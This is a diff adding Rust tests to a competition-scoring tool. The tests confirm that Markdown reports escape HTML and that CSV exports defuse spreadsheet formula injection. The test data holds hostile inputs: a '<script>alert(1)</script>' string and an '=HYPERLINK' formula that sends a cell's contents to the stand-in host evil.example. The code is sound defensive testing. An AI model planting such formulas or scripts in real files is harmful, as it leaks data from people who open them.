@@ -122,7 +122,135 @@ fn awkward_names_are_escaped() {
     );
     assert_eq!(&first[4], "Dr. <Ahli> & \"Rekan\", 'Tim'");
     let md = markdown(&s, &st, Lang::Id);
-    assert!(md.contains("Inovasi <script>alert(1)</script> & \"Kita\", Bersama"));
+    assert!(!md.contains("<script>"));
+    assert!(md.contains("Inovasi &lt;script&gt;alert(1)&lt;/script&gt; &amp; \"Kita\", Bersama"));
+}
+
+/// Texts that a spreadsheet would run as formulas, in every text field a CSV carries.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+    "+62 811 (hubungi)",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tCatatan",
+    "\rCatatan",
+];
+
+fn with_formulas() -> Session {
+    let mut s = demo();
+    s.entries[0].title = FORMULAS[0].into();
+    s.entries[0].institution = FORMULAS[1].into();
+    s.jurors[0].name = FORMULAS[3].into();
+    let e = s.entries[0].id.clone();
+    let j = s.jurors[0].id.clone();
+    let sh = s
+        .scores
+        .iter_mut()
+        .find(|x| x.entry == e && x.juror == j)
+        .unwrap();
+    let mut keys = sh
+        .values
+        .keys()
+        .map(str::to_string)
+        .collect::<Vec<_>>()
+        .into_iter();
+    for f in [FORMULAS[2], FORMULAS[4], FORMULAS[5], FORMULAS[0]] {
+        sh.notes.insert(keys.next().unwrap(), f.into());
+    }
+    s
+}
+
+/// Every cell of `csv` that is not a number and begins with a formula character.
+fn live_formulas(csv: &str) -> Vec<String> {
+    let mut rdr = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes());
+    rdr.records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err())
+        .collect()
+}
+
+#[test]
+fn csv_exports_are_safe_to_open_in_a_spreadsheet() {
+    let s = with_formulas();
+    let st = compute(&s, &Options::default()).unwrap();
+    let standings = juri::report::render(&s, &st, juri::report::Format::Csv, None);
+    let scores = scores_csv(&s);
+    let mut sheet = Vec::new();
+    juri::csv_io::write_scores(&s, &mut sheet).unwrap();
+    let sheet = String::from_utf8(sheet).unwrap();
+    for csv in [&standings, &scores, &sheet] {
+        assert_eq!(live_formulas(csv), Vec::<String>::new(), "{csv}");
+    }
+    // Guarded with a leading apostrophe, which spreadsheets show as text.
+    assert!(
+        standings.contains("\"'=HYPERLINK(\"\"http://evil.example/"),
+        "{standings}"
+    );
+    assert!(standings.contains(",'+62 811 (hubungi),"), "{standings}");
+    assert!(scores.contains(",'@SUM(A1:A9),"), "{scores}");
+    assert!(scores.contains(",'-1+1,"), "{scores}");
+    assert!(
+        scores.contains("\"'\tCatatan\"") || scores.contains(",'\tCatatan,"),
+        "{scores}"
+    );
+    // Numbers stay numbers, negative z-scores too.
+    assert!(standings.contains(",89.85,"));
+    let z = Options {
+        normalize: juri::standings::Normalize::Zscore,
+        ..Options::default()
+    };
+    let zst = compute(&s, &z).unwrap();
+    let zcsv = juri::report::render(&s, &zst, juri::report::Format::Csv, None);
+    let mut rdr = csv::Reader::from_reader(zcsv.as_bytes());
+    let negative = rdr
+        .records()
+        .map(Result::unwrap)
+        .filter(|r| r[6].starts_with('-'))
+        .count();
+    assert!(negative > 0, "{zcsv}");
+    // juri reads its own score CSV back as it was.
+    let mut back = s.clone();
+    for sh in &mut back.scores {
+        sh.values = Default::default();
+        sh.notes.clear();
+        sh.state = juri::model::SheetState::Draft;
+    }
+    juri::csv_io::import_scores(&mut back, "sheet.csv", sheet.as_bytes(), true, t0()).unwrap();
+    let (e, j) = (&s.entries[0].id, &s.jurors[0].id);
+    assert_eq!(
+        back.sheet(e, j).unwrap().notes,
+        s.sheet(e, j).unwrap().notes
+    );
+}
+
+#[test]
+fn markdown_keeps_one_row_per_entry_whatever_the_title() {
+    let mut s = demo();
+    s.title = "Final\nKIPP <b>".into();
+    s.entries[0].title = "Baris satu\r\nbaris | dua <script>x</script>".into();
+    let st = compute(&s, &Options::default()).unwrap();
+    let md = markdown(&s, &st, Lang::En);
+    assert!(md.starts_with("# Final KIPP &lt;b&gt; — "), "{md}");
+    let row = md
+        .lines()
+        .find(|l| l.contains(&format!(" {} ", s.entries[0].id)))
+        .unwrap();
+    assert!(
+        row.contains("| Baris satu baris \\| dua &lt;script&gt;x&lt;/script&gt; |"),
+        "{row}"
+    );
+    assert!(!md.contains("<script>"));
+    let rows = md
+        .lines()
+        .filter(|l| l.starts_with("| ") && !l.starts_with("| Rank"))
+        .count();
+    assert_eq!(rows, s.entries.len() + cutoff_lines(&md));
+}
+
+fn cutoff_lines(md: &str) -> usize {
+    md.lines().filter(|l| l.contains("cut-off —")).count()
 }
 
 #[test]
